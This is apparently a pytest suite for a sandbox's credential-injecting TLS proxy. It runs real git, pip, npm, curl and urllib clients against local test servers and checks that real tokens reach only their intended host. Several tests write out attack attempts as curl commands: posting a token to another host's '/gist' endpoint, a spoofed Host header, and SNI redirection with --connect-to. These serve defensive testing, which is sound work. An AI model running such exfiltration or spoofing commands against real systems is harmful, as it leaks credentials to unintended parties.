"""Real clients against the credential-wanting TLS servers of tests/tlsservers.py, directly and through rcc's
proxy as a plain tunnel: git clone/push over smart HTTP with a token in basic auth, pip from a private index,
npm from a private registry, curl, Python's urllib, and the fake Anthropic API over HTTPS. This is the ground the
credential tests (issue 15) stand on: each server takes the right token, refuses a wrong one, and records what it
got. "direct" reaches the test host by address (its certificate names it); "proxy" by name through a real
EgressProxy with a `resolve` override. Needs root (test hosts); skips otherwise.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import ssl
import subprocess
import sys
import time
import urllib.request
from collections.abc import Callable
from pathlib import Path

import pytest
from proxyhelpers import RunningProxy

from rcc.net.env import proxy_env
from tlsservers import (
    PKG,
    PKG_MESSAGE,
    Seen,
    TlsSites,
    branch_head,
    build_npm_tarball,
    build_wheel,
    git_http_handler,
    make_bare_repo,
    npm_handler,
    pypi_handler,
    recorder_handler,
    tls_sites,  # noqa: F401  (fixture)
)

pytestmark = pytest.mark.netns

TOKEN = "ghp_rcctestREALtoken0123456789"
WRONG = "ghp_rcctestWRONGtoken000000000"
FAKE_API = Path(__file__).resolve().parent.parent / "agents" / "fake_anthropic.py"


def tool(name: str) -> str:
    path = shutil.which(name)
    if path is None:
        pytest.skip(f"{name} is not installed")
    return path


class Client:
    """Runs real clients straight at the test hosts' addresses ("direct"), by name through rcc's proxy as a plain
    tunnel ("proxy"), or through rcc's proxy holding TOKEN as a credential for every site but other.test
    ("terminated": the client holds only the placeholder and trusts the session CA, as a sandboxed one does)."""

    def __init__(self, via: str, sites: TlsSites, start_proxy: Callable[..., RunningProxy], home: Path) -> None:
        self.via, self.sites, self.home = via, sites, home
        self._start_proxy = start_proxy
        self.proxy: RunningProxy | None = None
        self.placeholder = ""
        self.cafile = sites.ca.cert
        home.mkdir(exist_ok=True)

    def host(self, name: str) -> str:
        """What a URL names: the test host's address directly, its name through the proxy. Starts the proxy on
        first use: call it after serving every site of the test."""
        if self.via != "direct" and self.proxy is None:
            kw: dict[str, object] = {}
            if self.via == "terminated":
                kw["terminator"] = self._terminator()
            self.proxy = self._start_proxy(list(self.sites.resolve), resolve=self.sites.resolve, **kw)
        return self.sites.hosts[name].address if self.via == "direct" else name

    def _terminator(self) -> object:
        from rcc.net.credentials import Credential, CredentialSet, new_placeholder
        from rcc.net.sessionca import SessionCA, upstream_context
        from rcc.net.terminate import Terminator

        ca = SessionCA.create("test")
        self.placeholder = new_placeholder("test")
        hosts = tuple(n for n in self.sites.hosts if n != "other.test")
        creds = CredentialSet([Credential("test", "TEST_TOKEN", hosts, self.placeholder, TOKEN)])
        bundle = self.home / "ca-bundle.pem"  # what rcc gives a sandbox: the session CA next to what it trusts
        bundle.write_bytes(ca.cert_pem() + Path(self.sites.ca.cert).read_bytes())
        self.cafile = str(bundle)
        return Terminator(ca, creds, upstream=upstream_context(self.sites.ca.cert))

    def secret(self, token: str) -> str:
        """What the client holds for `token`: the placeholder for the real TOKEN through a terminating proxy."""
        return self.placeholder if self.via == "terminated" and token == TOKEN else token

    def never_leaked_placeholder(self, seen: Seen) -> None:
        if self.placeholder:
            assert not seen.contains(self.placeholder)

    def env(self, extra: dict[str, str] | None = None) -> dict[str, str]:
        env = {"PATH": os.environ["PATH"], "HOME": str(self.home), "LANG": "C.UTF-8"}
        if self.proxy is not None:
            env.update(proxy_env(self.proxy.port))
        return {**env, **(extra or {})}

    def run(
        self, argv: list[str], extra: dict[str, str] | None = None, cwd: Path | None = None
    ) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            argv, capture_output=True, text=True, env=self.env(extra), cwd=cwd, timeout=120, check=False
        )

    def git_env(self) -> dict[str, str]:
        return {
            "GIT_SSL_CAINFO": self.cafile,
            "GIT_CONFIG_NOSYSTEM": "1",
            "GIT_TERMINAL_PROMPT": "0",
            "GIT_AUTHOR_NAME": "t",
            "GIT_AUTHOR_EMAIL": "t@t",
            "GIT_COMMITTER_NAME": "t",
            "GIT_COMMITTER_EMAIL": "t@t",
        }

    def tunnelled(self, name: str) -> None:
        """Through the proxy, the connections were plain tunnels to `name`, or terminated with the credential
        injected when the proxy holds one for it (audit records)."""
        if self.proxy is None:
            return
        recs = self.proxy.records()
        assert recs and all(r["host"] == name and r["decision"] == "allow" for r in recs), recs
        if self.via == "terminated" and name != "other.test":
            assert any(str(r["rule"]).startswith("credential:test") for r in recs), recs
            assert TOKEN not in self.proxy.audit.read_text()
        else:
            assert {r["proto"] for r in recs} == {"connect"}


@pytest.fixture(params=["direct", "proxy", "terminated"])
def client(request, tls_sites: TlsSites, start_proxy, tmp_path: Path) -> Client:  # type: ignore[no-untyped-def]  # noqa: F811
    return Client(request.param, tls_sites, start_proxy, tmp_path / "home")


# ------------------------------------------------------------------------------------------------ git


def git_site(client: Client, tmp_path: Path, seen: Seen) -> Path:
    repos = tmp_path / "repos"
    repos.mkdir()
    bare = make_bare_repo(repos, "repo.git", "served over smart https\n")
    client.sites.serve("github.test", git_http_handler(repos, TOKEN, seen))
    return bare


def test_git_clone_and_push_with_token_in_basic_auth(client: Client, tmp_path: Path) -> None:
    git, seen = tool("git"), Seen()
    bare = git_site(client, tmp_path, seen)
    host = client.host("github.test")
    url = f"https://x-access-token:{client.secret(TOKEN)}@{host}/repo.git"
    clone = tmp_path / "clone"
    r = client.run([git, "clone", "-q", url, str(clone)], client.git_env())
    assert r.returncode == 0, r.stderr
    assert (clone / "README").read_text() == "served over smart https\n"
    (clone / "new.txt").write_text("pushed\n")
    for args in (["add", "new.txt"], ["commit", "-qm", "from the client"], ["push", "-q", "origin", "main"]):
        r = client.run([git, "-C", str(clone), *args], client.git_env())
        assert r.returncode == 0, (args, r.stderr)
    head = client.run([git, "-C", str(clone), "rev-parse", "HEAD"]).stdout.strip()
    assert branch_head(bare) == head
    assert any(r.basic_password() == TOKEN and "git-receive-pack" in r.path for r in seen.all())
    client.never_leaked_placeholder(seen)
    client.tunnelled("github.test")


def test_git_clone_with_wrong_token_is_refused(client: Client, tmp_path: Path) -> None:
    """Control for the server: it checks the token (so a passing clone proves the right one arrived)."""
    seen = Seen()
    git_site(client, tmp_path, seen)
    url = f"https://x-access-token:{WRONG}@{client.host('github.test')}/repo.git"
    r = client.run([tool("git"), "clone", "-q", url, str(tmp_path / "clone")], client.git_env())
    assert r.returncode != 0 and "Authentication failed" in r.stderr, r.stderr
    assert seen.contains(WRONG) and not seen.contains(TOKEN)


# ------------------------------------------------------------------------------------------------ pip


@pytest.mark.parametrize("token", [TOKEN, WRONG])
def test_pip_install_from_private_index_with_token(client: Client, tmp_path: Path, token: str) -> None:
    seen = Seen()
    client.sites.serve("pypi.test", pypi_handler(build_wheel(tmp_path), TOKEN, seen))
    target = tmp_path / "site"
    argv = [sys.executable, "-m", "pip", "install", "--no-cache-dir", "--disable-pip-version-check", "-q"]
    host = client.host("pypi.test")
    argv += ["--target", str(target), "--cert", client.cafile]
    argv += ["--index-url", f"https://__token__:{client.secret(token)}@{host}/simple/", PKG]
    r = client.run(argv, {"PIP_NO_INPUT": "1"})
    if token == WRONG:
        assert r.returncode != 0 and "401" in r.stderr + r.stdout
        assert not target.exists()
        return
    assert r.returncode == 0, r.stderr + r.stdout
    assert PKG_MESSAGE in (target / "rcc_probe_pkg" / "__init__.py").read_text()
    assert seen.all() and all(r.basic_password() == TOKEN for r in seen.all())
    client.never_leaked_placeholder(seen)
    client.tunnelled("pypi.test")


# ------------------------------------------------------------------------------------------------ npm


@pytest.mark.parametrize("token", [TOKEN, WRONG])
def test_npm_install_from_private_registry_with_token(client: Client, tmp_path: Path, token: str) -> None:
    npm, seen = tool("npm"), Seen()
    client.sites.serve("npm.test", npm_handler(build_npm_tarball(), TOKEN, seen))
    reg = client.host("npm.test")
    proj = tmp_path / "proj"
    proj.mkdir()
    (proj / "package.json").write_text('{"name": "p", "version": "0.0.0", "private": true}')
    (proj / ".npmrc").write_text(
        f"registry=https://{reg}/\n//{reg}/:_authToken={client.secret(token)}\ncafile={client.cafile}\n"
        "audit=false\nfund=false\nupdate-notifier=false\n"
    )
    r = client.run([npm, "install", PKG], {"npm_config_cache": str(tmp_path / "npm-cache")}, cwd=proj)
    if token == WRONG:
        assert r.returncode != 0 and "E401" in r.stderr + r.stdout, r.stderr
        return
    assert r.returncode == 0, r.stderr + r.stdout
    assert PKG_MESSAGE in (proj / "node_modules" / PKG / "index.js").read_text()
    assert seen.all() and all(r.bearer() == TOKEN for r in seen.all())
    client.never_leaked_placeholder(seen)
    client.tunnelled("npm.test")


# ------------------------------------------------------------------------------------------------ curl, Python


def test_token_sent_to_another_allowed_host_arrives_as_what_the_client_holds(client: Client, tmp_path: Path) -> None:
    """Attack (terminated): a client posts its token to another allowed host (a gist, an issue comment): that host
    gets the placeholder, never the real value. Control in the same run: the credential's host gets the real one."""
    curl, seen, index_seen = tool("curl"), Seen(), Seen()
    client.sites.serve("other.test", recorder_handler(seen))
    client.sites.serve("pypi.test", pypi_handler(build_wheel(tmp_path), TOKEN, index_seen))
    other, index = client.host("other.test"), client.host("pypi.test")
    held = client.secret(TOKEN)
    base = [curl, "-sS", "--max-time", "10", "--cacert", client.cafile]
    r = client.run([*base, "-H", f"Authorization: token {held}", "-d", "hi", f"https://{other}/gist"])
    assert r.returncode == 0 and r.stdout == "recorded\n", r.stderr
    (req,) = seen.all()
    assert (req.method, req.path, req.header("Authorization")) == ("POST", "/gist", f"token {held}")
    if client.via == "terminated":
        assert held != TOKEN and not seen.contains(TOKEN)
    r = client.run(
        [*base, "-o", "/dev/null", "-w", "%{http_code}", "-u", f"__token__:{held}", f"https://{index}/simple/{PKG}/"]
    )
    assert r.stdout == "200", r.stderr
    assert [x.basic_password() for x in index_seen.all()] == [TOKEN]


def test_python_urllib_basic_auth_to_private_index(client: Client, tmp_path: Path) -> None:
    seen = Seen()
    client.sites.serve("pypi.test", pypi_handler(build_wheel(tmp_path), TOKEN, seen))
    code = (
        "import base64, os, ssl, sys, urllib.request\n"
        "req = urllib.request.Request(sys.argv[1])\n"
        "auth = base64.b64encode(('__token__:' + os.environ['PYPI_TOKEN']).encode()).decode()\n"
        "req.add_header('Authorization', 'Basic ' + auth)\n"
        "ctx = ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE'])\n"
        "print(urllib.request.urlopen(req, context=ctx, timeout=10).read().decode())\n"
    )
    url = f"https://{client.host('pypi.test')}/simple/{PKG}/"
    r = client.run(
        [sys.executable, "-c", code, url], {"PYPI_TOKEN": client.secret(TOKEN), "SSL_CERT_FILE": client.cafile}
    )
    assert r.returncode == 0 and "rcc_probe_pkg-0.1-py3-none-any.whl" in r.stdout, r.stderr
    assert [x.basic_password() for x in seen.all()] == [TOKEN]
    client.never_leaked_placeholder(seen)
    client.tunnelled("pypi.test")


# ------------------------------------------------------------------------------------------------ fake Anthropic


def test_fake_anthropic_over_tls_records_which_key_it_got(client: Client, tmp_path: Path) -> None:
    """The fake API serves HTTPS and logs the SHA-256 of the key it received (never the key)."""
    sites = client.sites
    host = sites.add_host("api.test")
    cert, key = sites.ca.issue(["api.test", host.address])
    script, log = tmp_path / "turns.json", tmp_path / "api.jsonl"
    script.write_text(json.dumps([{"text": "hello over tls"}]))
    argv = [sys.executable, str(FAKE_API), "--host", host.address, "--port", "443", "--script", str(script)]
    argv += ["--log", str(log), "--tls-cert", cert, "--tls-key", key]
    proc = host.run_bg(argv, stdout=subprocess.PIPE)
    assert proc.stdout is not None and proc.stdout.readline().startswith(b"listening")
    msgs = [{"role": "user", "content": "hi"}]
    body = json.dumps({"model": "m", "max_tokens": 5, "messages": msgs, "tools": [{"name": "Bash"}]})
    url = f"https://{client.host('api.test')}/v1/messages"
    argv = [
        tool("curl"),
        "-sS",
        "--max-time",
        "10",
        "--cacert",
        client.cafile,
        "-H",
        f"x-api-key: {client.secret(TOKEN)}",
    ]
    argv += ["-H", "content-type: application/json", "--data", body]
    r = client.run([*argv, url])
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout)["content"][0]["text"] == "hello over tls"
    deadline = time.monotonic() + 5
    while not log.exists() and time.monotonic() < deadline:
        time.sleep(0.02)
    (rec,) = [json.loads(x) for x in log.read_text().splitlines()]
    assert rec["x_api_key_sha256"] == hashlib.sha256(TOKEN.encode()).hexdigest()
    assert TOKEN not in log.read_text()
    client.tunnelled("api.test")


def test_tls_servers_refuse_clients_without_the_test_ca(tls_sites: TlsSites) -> None:  # noqa: F811
    """Control for the TLS: the certificates are the test CA's, not trusted by default (so a client that passes
    was given the CA, and a terminating proxy must present a certificate the client trusts)."""
    host = tls_sites.serve("other.test", recorder_handler(Seen()))
    with pytest.raises(urllib.request.URLError) as e:
        urllib.request.urlopen(f"https://{host.address}/", timeout=10, context=ssl.create_default_context())
    assert isinstance(e.value.reason, ssl.SSLCertVerificationError)


# ------------------------------------------------------------------------------------------------ attacks, real curl


@pytest.fixture
def terminated(tls_sites: TlsSites, start_proxy, tmp_path: Path) -> Client:  # type: ignore[no-untyped-def]  # noqa: F811
    return Client("terminated", tls_sites, start_proxy, tmp_path / "home")


def test_curl_with_host_header_of_another_host_in_a_terminated_connection_is_refused(
    terminated: Client, tmp_path: Path
) -> None:
    """Attack: open the terminated connection to the credential's host, then name another host in `Host` (hoping
    the value goes where that host's name points). Refused before anything goes upstream; control: the same
    request with the right Host gets the value injected."""
    index_seen, other_seen = Seen(), Seen()
    terminated.sites.serve("pypi.test", pypi_handler(build_wheel(tmp_path), TOKEN, index_seen))
    terminated.sites.serve("other.test", recorder_handler(other_seen))
    url = f"https://{terminated.host('pypi.test')}/simple/{PKG}/"
    base = [tool("curl"), "-sS", "--max-time", "10", "--cacert", terminated.cafile, "-o", "/dev/null"]
    base += ["-w", "%{http_code}", "-u", f"__token__:{terminated.secret(TOKEN)}"]
    r = terminated.run([*base, "-H", "Host: other.test", url])
    assert r.stdout != "200"
    assert index_seen.all() == [] and other_seen.all() == []
    recs = terminated.proxy.records() if terminated.proxy else []
    assert any(x["decision"] == "deny" and "other.test" in str(x["reason"]) for x in recs), recs
    r = terminated.run([*base, url])  # control
    assert r.stdout == "200", r.stderr
    assert [x.basic_password() for x in index_seen.all()] == [TOKEN]


def test_curl_with_sni_of_another_host_through_a_credential_connect_is_refused(
    terminated: Client, tmp_path: Path
) -> None:
    """Attack: CONNECT to the credential's host but speak TLS for another name (curl --connect-to): no leaf is
    made for the other name and nothing reaches either server; control: the same URL without --connect-to."""
    index_seen, other_seen = Seen(), Seen()
    terminated.sites.serve("pypi.test", pypi_handler(build_wheel(tmp_path), TOKEN, index_seen))
    terminated.sites.serve("other.test", recorder_handler(other_seen))
    terminated.host("pypi.test")
    base = [tool("curl"), "-sS", "--max-time", "10", "--cacert", terminated.cafile, "-o", "/dev/null"]
    base += ["-w", "%{http_code}", "-u", f"__token__:{terminated.secret(TOKEN)}"]
    r = terminated.run([*base, "--connect-to", "other.test:443:pypi.test:443", f"https://other.test/simple/{PKG}/"])
    assert r.returncode != 0 and r.stdout != "200"
    assert index_seen.all() == [] and other_seen.all() == []
    recs = terminated.proxy.records() if terminated.proxy else []
    assert any(x["host"] == "pypi.test" and x["decision"] == "deny" for x in recs), recs
    r = terminated.run([*base, f"https://other.test/simple/{PKG}/"])  # control: other.test is tunnelled
    assert r.returncode == 0 and r.stdout == "200", r.stderr
    assert [x.path for x in other_seen.all()] == [f"/simple/{PKG}/"]
    assert not other_seen.contains(TOKEN)
